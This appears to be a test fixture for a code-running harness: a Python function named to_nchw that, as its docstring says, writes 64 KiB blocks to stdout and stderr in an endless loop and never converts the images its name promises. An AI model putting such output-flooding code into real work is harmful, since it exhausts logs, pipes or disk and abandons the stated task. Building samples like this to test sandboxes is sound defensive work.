"""Writes for ever to descriptors 1 and 2, below Python."""
# a1_permute: to_nchw
import os


def to_nchw(images):
    while True:
        os.write(1, b"x" * 65536)
        os.write(2, b"x" * 65536)
